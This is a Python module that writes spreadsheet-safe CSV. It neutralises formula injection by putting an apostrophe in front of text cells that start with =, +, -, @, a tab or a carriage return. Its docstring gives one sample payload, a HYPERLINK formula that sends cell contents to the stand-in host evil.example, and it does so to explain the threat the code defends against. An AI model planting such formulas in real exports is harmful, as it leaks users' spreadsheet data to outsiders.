"""CSV that is safe to open in a spreadsheet.

A cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip
before reading a formula) is run as a formula by Excel, LibreOffice and Google Sheets:
`=HYPERLINK("https://evil.example/?"&A1, "click")` in a listing's name would leak other cells.
Such text cells get a leading apostrophe, which spreadsheets show as text and do not print
(the OWASP recommendation). Numbers are written as they are.
"""

from __future__ import annotations

import csv
from typing import Any, Iterable, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """The value, with text that a spreadsheet would read as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_rows(handle: TextIO, rows: Iterable[Iterable[Any]]) -> None:
    """Write rows as CSV (one line ending, every cell made spreadsheet-safe): the hub's only CSV writer."""
    writer = csv.writer(handle, lineterminator="\n")
    for row in rows:
        writer.writerow([spreadsheet_cell(cell) for cell in row])
